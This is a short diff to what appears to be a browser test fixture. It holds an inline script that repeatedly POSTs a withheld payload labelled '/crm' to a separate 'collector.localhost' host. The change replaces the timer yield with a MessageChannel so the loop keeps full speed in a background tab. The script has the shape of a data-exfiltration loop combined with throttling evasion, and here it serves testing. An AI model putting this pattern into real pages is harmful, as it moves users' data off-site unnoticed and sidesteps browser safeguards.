@@ -35,10 +35,12 @@ const EXPORTING = `<script>
   addEventListener("message", ({ data }) => {
     if (String(data).startsWith("acknowledged ")) fetch("/acknowledged?" + data.split(" ")[1], { keepalive: true }).catch(() => {});
   });
+  const channel = new MessageChannel();
   async function exportAll(count) {
     for (let done = 0; done < count; done += 1) {
       await fetch("http://collector.localhost:" + location.port + "/crm", { method: "POST", body: "${WITHHELD}" }).catch(() => {});
-      await new Promise((resolve) => setTimeout(resolve));
+      // A timer would wait for a second in a tab that is behind.
+      await new Promise((resolve) => { channel.port1.onmessage = resolve; channel.port2.postMessage(null); });
     }
   }
 </script>`;
